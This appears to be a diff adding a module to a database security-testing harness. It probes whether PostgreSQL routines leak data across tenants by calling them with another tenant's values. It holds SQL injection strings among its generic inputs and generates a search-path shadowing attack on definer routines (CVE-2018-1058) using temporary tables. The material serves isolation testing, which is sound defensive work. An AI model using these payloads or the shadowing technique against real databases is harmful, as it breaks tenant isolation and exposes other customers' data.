@@ -1,0 +1,223 @@
+"""Whatever a routine of the target is given, it must answer and act as if the victim's rows were not there.
+
+Arguments come from the victim's values: by the parameter's name first, then by its type; the others from own rows.
+"""
+
+import re
+from collections.abc import Iterator, Mapping
+
+from harness.catalog.model import Column, Relation, Routine
+from harness.record.model import Answer, Attempt, Scope
+from harness.sql.compose import columns, identifier, literal, values
+from harness.world.model import Row, Scene
+
+FAMILY = "routines"
+RULE = "routine-crosses-tenants"
+
+_EACH = 5
+_TUPLES = 28
+_GENERIC = {
+    "S": ("", "%", "a", "' OR true --", "%' OR true --"),
+    "N": ("1", "0", "1000000"),
+    "B": ("t", "f"),
+    "D": ("2000-01-01 00:00+00", "2100-01-01 00:00+00"),
+    "T": ("100 years",),
+}
+_NUMERIC = ("integer", "bigint", "smallint", "numeric", "real", "double precision")
+_TEXTUAL = ("text", "character varying", "character", "name", "citext")
+
+
+def attempts(scene: Scene) -> Iterator[Attempt]:
+    """Every executable routine of the user's schemas that ``enter`` does not call."""
+    for routine in scene.routines:
+        if routine.oid in scene.rights.execute:
+            for arguments, named in _calls(scene, routine):
+                yield _call(scene, routine, arguments, named)
+
+
+def _call(scene: Scene, routine: Routine, arguments: tuple[str, ...], named: tuple[str, ...]) -> Attempt:
+    given = ", ".join(arguments)
+    if routine.kind == "p":
+        statement = f"CALL {routine.sql}({given})"
+    else:
+        statement = f"SELECT * FROM {routine.sql}({given})"
+    several = routine.returns_set or routine.returns not in (*_NUMERIC, "boolean")
+    return Attempt(
+        family=FAMILY,
+        rule=RULE,
+        object=routine.label,
+        statements=(statement,),
+        actor=scene.attacker,
+        scope=Scope.BOTH,
+        answer=Answer.CELLS if several else Answer.COMPUTED,
+        names=named,
+        follow=routine.volatility == "v",
+        hint=routine.label,
+    )
+
+
+def _calls(scene: Scene, routine: Routine) -> Iterator[tuple[tuple[str, ...], tuple[str, ...]]]:
+    """Argument lists, most telling first, each with the victim's values in it."""
+    if not routine.types:
+        yield (), ()
+        return
+    pools = [_pools(scene, name, kind) for name, kind in zip(routine.names, routine.types, strict=False)]
+    lists: dict[tuple[tuple[str, str | None], ...], None] = {}
+    for depth in range(_EACH):
+        for whose in ("victim", "own"):
+            lists[tuple((whose, _at(pool, whose, depth)) for pool in pools)] = None
+        for place in range(len(pools)):
+            lists[
+                tuple(
+                    ("victim", _at(pool, "victim", depth)) if index == place else ("own", _at(pool, "own", depth))
+                    for index, pool in enumerate(pools)
+                )
+            ] = None
+    for place, pool in enumerate(pools):
+        for generic in pool["generic"]:
+            lists[
+                tuple(
+                    ("generic", generic) if index == place else ("own", _at(other, "own", 0))
+                    for index, other in enumerate(pools)
+                )
+            ] = None
+    for chosen in list(lists)[:_TUPLES]:
+        arguments = tuple(f"{literal(cell)}::{kind}" for (_, cell), kind in zip(chosen, routine.types, strict=False))
+        if routine.variadic:
+            arguments = (*arguments[:-1], f"VARIADIC {arguments[-1]}")
+        named = tuple(cell for whose, cell in chosen if whose == "victim" and cell is not None)
+        yield arguments, named
+
+
+def _at(pool: dict[str, list[str]], whose: str, depth: int) -> str | None:
+    cells = pool[whose] or pool["generic"] or pool["own"] or pool["victim"]
+    return cells[depth % len(cells)] if cells else None
+
+
+def _pools(scene: Scene, name: str, kind: str) -> dict[str, list[str]]:
+    """Values for one parameter: the victim's, own ones and generic ones."""
+    array = kind.endswith("[]")
+    base = kind.removesuffix("[]")
+    found: dict[str, list[str]] = {
+        "victim": _matching(scene, scene.theirs, name, base),
+        "own": _matching(scene, scene.own, name, base),
+        "generic": list(_generic(base)),
+    }
+    if _names_tenant(scene, name):
+        found["victim"].insert(0, scene.victim)
+        found["own"].insert(0, scene.attacker.tenant)
+    for who, pool in found.items():
+        unique = list(dict.fromkeys(pool))
+        found[who] = (
+            ["{" + '"' + cell.replace("\\", "\\\\").replace('"', '\\"') + '"' + "}" for cell in unique]
+            if array
+            else unique
+        )
+    return found
+
+
+def _names_tenant(scene: Scene, name: str) -> bool:
+    plain = _plain(name)
+    discriminators = {o.column for o in scene.owners.values() if o.column}
+    return plain in discriminators or plain in {d.removesuffix("_id") for d in discriminators} or "tenant" in plain
+
+
+def _plain(name: str) -> str:
+    return re.sub(r"^(p|in|arg|v|new|old|the)_|^_+", "", name.lower())
+
+
+def _matching(scene: Scene, rows: Mapping[int, tuple[Row, ...]], name: str, kind: str) -> list[str]:
+    """Cells of columns named like the parameter, then of the other columns of its type."""
+    plain = _plain(name)
+    named: list[str] = []
+    typed: list[str] = []
+    for relation in scene.relations:
+        for column in relation.columns:
+            if not _fits(column, kind):
+                continue
+            cells = [cell for row in rows.get(relation.oid, ())[:_EACH] if (cell := _cell(row, column)) is not None]
+            (named if _alike(plain, relation, column) else typed).extend(cells)
+    if kind == "numeric" or (kind in ("real", "double precision")):
+        named.append("1")
+    return [*named, *dict.fromkeys(typed)] if named else list(dict.fromkeys(typed))
+
+
+def _cell(row: Row, column: Column) -> str | None:
+    return row.cells.get(column.name)
+
+
+def _fits(column: Column, kind: str) -> bool:
+    if column.base == kind or column.type == kind:
+        return True
+    if kind in _TEXTUAL:
+        return column.category == "S" or column.base == "uuid"
+    return kind in ("integer", "bigint") and column.base in ("integer", "bigint", "smallint")
+
+
+def _alike(plain: str, relation: Relation, column: Column) -> bool:
+    singular = relation.name.lower().removesuffix("s")
+    name = column.name.lower()
+    if not plain:
+        return False
+    whole = {name, f"{singular}_{name}", f"{singular}{name}"}
+    if column.name in relation.primary:
+        whole |= {singular, relation.name.lower()}
+    return plain in whole or plain.removesuffix("_id") in whole or plain in {f"{entry}_id" for entry in whole}
+
+
+def _generic(kind: str) -> tuple[str, ...]:
+    if kind in _TEXTUAL:
+        return _GENERIC["S"]
+    if kind in _NUMERIC:
+        return _GENERIC["N"]
+    if kind == "boolean":
+        return _GENERIC["B"]
+    if kind.startswith(("timestamp", "date")):
+        return _GENERIC["D"]
+    if kind in ("json", "jsonb"):
+        return ("{}", "[]")
+    return _GENERIC["T"] if kind == "interval" else ()
+
+
+def shadowed(scene: Scene) -> Iterator[Attempt]:
+    """Temporary relations that stand in for what a definer routine names without its schema (CVE-2018-1058)."""
+    if not scene.rights.temporary:
+        return
+    for routine in scene.routines:
+        if not routine.definer or routine.oid not in scene.rights.execute:
+            continue
+        words = set(re.findall(r"\w+", routine.source.lower()))
+        shadows = [r for r in scene.relations if r.name.lower() in words and r.is_table]
+        if not shadows:
+            continue
+        prelude = tuple(
+            statement for relation in {r.name: r for r in shadows}.values() for statement in _shadow(scene, relation)
+        )
+        for arguments, named in list(_calls(scene, routine))[:6]:
+            call = _call(scene, routine, arguments, named)
+            yield Attempt(
+                family="session",
+                rule="definer-search-path",
+                object=routine.label,
+                statements=call.statements,
+                actor=scene.attacker,
+                scope=Scope.BOTH,
+                names=named,
+                answer=call.answer,
+                prelude=prelude,
+                follow=True,
+            )
+
+
+def _shadow(scene: Scene, relation: Relation) -> Iterator[str]:
+    """A temporary table of the relation's name that says of the attacker what the real one says of the victim."""
+    listed = ", ".join(f"{identifier(c.name)} {c.type}" for c in relation.columns)
+    name = identifier(relation.name)
+    yield f"CREATE TEMPORARY TABLE {name} ({listed})"
+    yield f"GRANT ALL ON pg_temp.{name} TO PUBLIC"
+    rows = scene.own.get(relation.oid, ())
+    discriminator = scene.discriminator(relation)
+    for row in (*rows[:3], *scene.theirs.get(relation.oid, ())[:3]):
+        for tenant in (row[discriminator], scene.victim) if discriminator else (None,):
+            cells = dict(row.cells) | ({discriminator: tenant} if discriminator else {})
+            yield f"INSERT INTO pg_temp.{name} ({columns(cells)}) VALUES ({values(cells.values())})"
